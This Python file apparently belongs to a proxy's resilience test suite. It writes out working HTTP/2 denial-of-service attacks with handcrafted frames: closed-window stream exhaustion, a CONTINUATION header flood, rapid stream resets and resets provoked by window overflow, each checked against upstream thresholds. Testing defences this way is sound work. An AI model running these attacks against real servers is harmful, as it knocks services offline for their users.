"""Attacks over HTTP/2, with handwritten frames."""

import asyncio

import hpack

from http2.wire import (
    ACK, CANCEL, CONTINUATION, END_HEADERS, END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, PING, PREFACE, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, frame, literals, settings, u32,
)

from attackers import Ended, attack

FULL_WINDOW = (1 << 31) - 1


class Connection:
    """An HTTP/2 connection that acknowledges PING and SETTINGS and counts what arrives."""

    def __init__(self, attacker, own):
        self.attacker, self.own, self.got, self.is_going = attacker, own, b"", False
        # The stream of the frame that arrived last.
        self.stream = 0
        self.decoder = hpack.Decoder()

    @classmethod
    async def open(cls, attacker, *pairs):
        connection = cls(attacker, await attacker.connect())
        await connection.send(PREFACE + settings(*pairs))
        return connection

    async def send(self, *frames):
        await self.attacker.send(self.own, b"".join(frames))

    async def read(self):
        """Frames until the proxy ends the connection."""
        while True:
            while len(self.got) < 9:
                self.got += await self.attacker.receive(self.own)
            length = 9 + int.from_bytes(self.got[:3])
            while len(self.got) < length:
                self.got += await self.attacker.receive(self.own)
            kind, flags, payload = self.got[3], self.got[4], self.got[9:length]
            self.stream, self.got = int.from_bytes(self.got[5:9]), self.got[length:]
            await self.arrived(kind, flags, payload)

    async def arrived(self, kind, flags, payload):
        if kind == PING and not flags & ACK:
            await self.send(frame(PING, ACK, 0, payload))
        elif kind == SETTINGS and not flags & ACK:
            await self.send(frame(SETTINGS, ACK))
        elif kind == HEADERS:
            self.attacker.count(int(dict(self.decoder.decode(payload))[":status"]))
        elif kind == RST_STREAM:
            self.attacker.counts["refused"] += 1
        elif kind == GOAWAY:
            self.attacker.counts["goaway"] += 1
            self.is_going = True


def request(stream, method, path, *fields, ends=True):
    head = [(":method", method), (":scheme", "http"), (":path", path), (":authority", "a"), *fields]
    return frame(HEADERS, END_HEADERS | (END_STREAM if ends else 0), stream, literals(head))


async def zero_window(attacker, make):
    """Connections of 100 streams each, whose responses cannot be sent."""

    async def client(_):
        connection = await Connection.open(attacker, (INITIAL_WINDOW_SIZE, 0))
        await connection.send(*(make(2 * number + 1) for number in range(100)))
        attacker.counts["asked"] += 100
        await connection.read()

    await attacker.swarm(101, client)


@attack("h2-zero-window", "101 connections of 100 GETs without a token, whose windows are closed", recovers=True)
async def h2_zero_window(attacker):
    await zero_window(attacker, lambda stream: request(stream, "GET", "/api"))


# The attacker wants one backend connection per stream.
@attack(
    "h2-public-post", "the same with OpenMetadata's login, a length and no body",
    backend="openmetadata", most_upstream=1024)
async def h2_public_post(attacker):
    await zero_window(attacker, lambda stream: request(stream, "POST", "/api/v1/users/login", ("content-length", "5"), ends=False))


@attack("h2-unfinished-heads", "2,000 connections with 45 KB of a head that no END_HEADERS ends")
async def h2_unfinished_heads(attacker):
    fields = [literals([(f"x-{number}", "a" * 990)]) for number in range(45)]
    pieces = [b"".join(fields[first : first + 15]) for first in range(0, 45, 15)]

    async def client(_):
        connection = await Connection.open(attacker)
        head = literals([(":method", "GET"), (":scheme", "http"), (":path", "/api"), (":authority", "a")])
        await connection.send(frame(HEADERS, END_STREAM, 1, head), *(frame(CONTINUATION, 0, 1, piece) for piece in pieces))
        attacker.counts["asked"] += 1
        # No frame may come between those of a field block, not even the ACK of SETTINGS.
        await attacker.until_closed(connection.own)

    await attacker.swarm(2000, client)


async def resets(attacker, streams, reset):
    """Resets streams as soon as the backend has their requests, 50 at a time."""
    backend, batch = attacker.target.backend, 50
    attacker.expected += 1
    connection = await Connection.open(attacker)
    reading = asyncio.create_task(connection.read())
    began = asyncio.get_running_loop().time()
    try:
        for first in range(0, streams, batch):
            ids = [2 * (first + number) + 1 for number in range(batch)]
            wanted = backend.requests + batch
            await connection.send(*(request(stream, "GET", "/public/hang") for stream in ids))
            attacker.counts["asked"] += batch
            for _ in range(20):
                if backend.requests >= wanted:
                    break
                await asyncio.sleep(0.005)
            await connection.send(*map(reset, ids))
            if reading.done():
                break
    except Ended:
        pass
    finally:
        # Waits up to a second for the last frames of the proxy.
        await asyncio.wait([reading], timeout=1)
        attacker.counts["ended"] += reading.done() or connection.is_going
        attacker.counts["milliseconds"] += int(1000 * (asyncio.get_running_loop().time() - began))
        reading.cancel()
        await asyncio.gather(reading, return_exceptions=True)


@attack(
    "h2-rapid-reset", "5,000 streams on one connection, reset as soon as the backend has them",
    most_upstream=300, all_upstream=1000, must_be_ended=True,
)
async def h2_rapid_reset(attacker):
    await resets(attacker, 5000, lambda stream: frame(RST_STREAM, 0, stream, u32(CANCEL)))


@attack(
    "h2-made-resets", "the same, but a window that overflows makes the proxy reset the streams",
    most_upstream=300, all_upstream=1000, must_be_ended=True,
)
async def h2_made_resets(attacker):
    await resets(attacker, 5000, lambda stream: frame(WINDOW_UPDATE, 0, stream, u32(FULL_WINDOW)))
